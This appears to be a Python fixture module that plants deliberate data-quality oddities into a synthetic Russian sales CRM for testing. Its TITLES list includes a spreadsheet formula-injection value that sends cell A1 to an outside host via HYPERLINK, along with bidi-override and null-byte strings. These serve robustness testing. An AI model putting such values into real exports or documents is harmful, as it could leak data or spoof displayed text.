"""What real portals are full of: handed-over work, lost history, templates, broken text.

Each oddity is planted on purpose, is counted by the ledger, and has a test that finds it.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterable
from dataclasses import replace
from datetime import datetime, timedelta
from decimal import Decimal

from infra.sandbox.worlds.demo import company, people, signals
from infra.sandbox.worlds.demo.company import CORPORATE, FORGOTTEN_LOST, FORGOTTEN_OPEN, RETAIL
from infra.sandbox.worlds.demo.people import Organisation, Person
from infra.sandbox.worlds.demo.records import CREATED, Deal, Entry, Lead, Sales

TITLES = (
    "Окна 🏠 под ключ 👨‍👩‍👧",
    '=HYPERLINK("https://example.com/?x="&A1;"Счёт")',
    "+7 позвонить, @Марина; -скидка",
    "Обрыв пары \ud83d в середине",
    "Нулевой\x00символ",
    "Перевод\r\nстроки\tи табуляция",
    "Кавычки \"двойные\", 'одинарные' и «ёлочки» \\ косая",
    "<b>Жирный</b> & [b]Балкон[/b]",
    "\u202eобратный порядок\u202c и \u200bневидимый пробел",
    "Ё" * 255,
)
_GHOSTS: tuple[int | None, ...] = (company.GHOST_USER, 0, None)


def plant(rng: random.Random, sales: Sales) -> None:
    """Plant everything. Later steps leave alone what earlier ones have marked."""
    deals = [deal for deal in sales.deals if deal.person is not None]
    rng.shuffle(deals)
    free = iter(deals)
    _lose_dates(free)
    _close_at_midnight(rng, free)
    _forget_stages(free)
    for deal, ghost in zip(_taken(free, lambda _: True, 30), _GHOSTS * 10, strict=True):
        deal.manager_id = ghost
    for deal in _taken(free, lambda _: True, 40):
        deal.person = None
    for number, deal in enumerate(_taken(free, lambda d: not d.is_won or d.is_return, 60)):
        deal.is_deleted = True
        deal.history_remains = number < 5
    for deal, title in zip(_taken(free, lambda d: d.lead is not None, 40), TITLES * 4, strict=True):
        deal.title = title
        if deal.lead is not None:
            deal.lead.title = title
    _leads(rng, sales.leads)
    _templates(rng, sales, list(_taken(free, lambda d: d.is_won, 34)))
    _introduce_colleagues(rng, sales.people)
    sales.own_companies.extend(
        Organisation(title=title, is_own=True)
        for title in ("ООО «Северный Дом»", "ИП Северный А. П.")
    )


def _taken(deals: Iterable[Deal], fits: Callable[[Deal], bool], count: int) -> list[Deal]:
    """The next `count` deals that fit; those passed over are not offered again."""
    taken: list[Deal] = []
    for deal in deals:
        if fits(deal):
            taken.append(deal)
        if len(taken) == count:
            break
    return taken


def _lose_dates(deals: Iterable[Deal]) -> None:
    """Wins imported from an older system: what tells their day is missing more and more."""

    def fits(deal: Deal) -> bool:
        wins = sum(entry.stage[1] == "S" for entry in deal.entries)
        return deal.is_won and wins == 1 and deal.created.year < 2026

    for dated_by, count in (("moved_time", 60), ("close_date", 30), ("unknown", 15)):
        for deal in _taken(deals, fits, count):
            deal.dated_by = dated_by
            if dated_by == "close_date" and deal.close_date is not None:
                deal.close_date += timedelta(days=2)
            elif dated_by == "unknown":
                deal.close_date = None


def _close_at_midnight(rng: random.Random, deals: Iterable[Deal]) -> None:
    """Wins in the first hours of a month in Moscow: in UTC they belong to the month before."""

    def fits(deal: Deal) -> bool:
        return deal.is_won and deal.entries[-1].moment < datetime(2026, 9, 1, tzinfo=company.ZONE)

    for deal in _taken(deals, fits, 30):
        last = deal.entries[-1]
        month = (last.moment.replace(day=1) + timedelta(days=32)).replace(day=1)
        moment = month.replace(hour=rng.randrange(3), minute=rng.randrange(60))
        deal.entries[-1] = replace(last, moment=moment)
        deal.close_date = moment.date()


def _forget_stages(deals: Iterable[Deal]) -> None:
    """Stages that were deleted from the funnel while deals and history still stand in them."""
    for pipeline in (RETAIL, CORPORATE):
        for deal in _taken(deals, lambda d, p=pipeline: d.pipeline == p and d.stage[1] == "P", 5):
            deal.entries[-1] = replace(deal.entries[-1], stage=FORGOTTEN_OPEN[pipeline])
    for deal in _taken(deals, lambda d: d.pipeline == RETAIL and d.stage[1] == "F", 8):
        deal.entries[-1] = replace(deal.entries[-1], stage=FORGOTTEN_LOST)


def _leads(rng: random.Random, leads: list[Lead]) -> None:
    unborn = [lead for lead in leads if lead.stage != company.LEAD_CONVERTED]
    chosen = rng.sample(unborn, 120)
    for lead in chosen[:90]:
        lead.is_deleted = True
    for lead, ghost in zip(chosen[90:], _GHOSTS * 10, strict=True):
        lead.manager_id = ghost


def _templates(rng: random.Random, sales: Sales, sold: list[Deal]) -> None:
    """Templates of recurring deals. One that stands first makes nobody a known customer."""
    for deal in sold:
        when = deal.entries[-1].moment + timedelta(hours=1)
        sales.deals.append(_deal(deal.person, when, is_recurring=True))
    for number in range(6):
        newcomer = people.person(rng, 900_000 + number)
        sales.people.append(newcomer)
        when = datetime(2026, 1 + number, 9, 11, 5, tzinfo=company.ZONE)
        sales.deals.append(_deal(newcomer, when, is_recurring=True))
        sales.deals.append(_deal(newcomer, when + timedelta(days=20), is_recurring=False))


def _deal(person: Person | None, created: datetime, *, is_recurring: bool) -> Deal:
    stage = company.OPEN_STAGES[RETAIL][0]
    return Deal(
        created=created,
        person=person,
        lead=None,
        signals=signals.SILENT,
        origin=signals.SILENT,
        title="Сервисное обслуживание" + (" (шаблон)" if is_recurring else ""),
        manager_id=company.SERVICE_SELLERS[0].user_id,
        amount=Decimal("4900.00"),
        currency="RUB",
        entries=[Entry(moment=created, pipeline=RETAIL, stage=stage, type_id=CREATED)],
        close_date=None,
        is_recurring=is_recurring,
    )


def _introduce_colleagues(rng: random.Random, persons: list[Person]) -> None:
    """Some buyers of a firm bring a colleague: a deal with two contacts."""
    for number, person in enumerate(persons):
        if person.organisation is not None and rng.random() < 0.2:
            person.second_contact = people.person(rng, 800_000 + number)
            person.second_contact.organisation = person.organisation
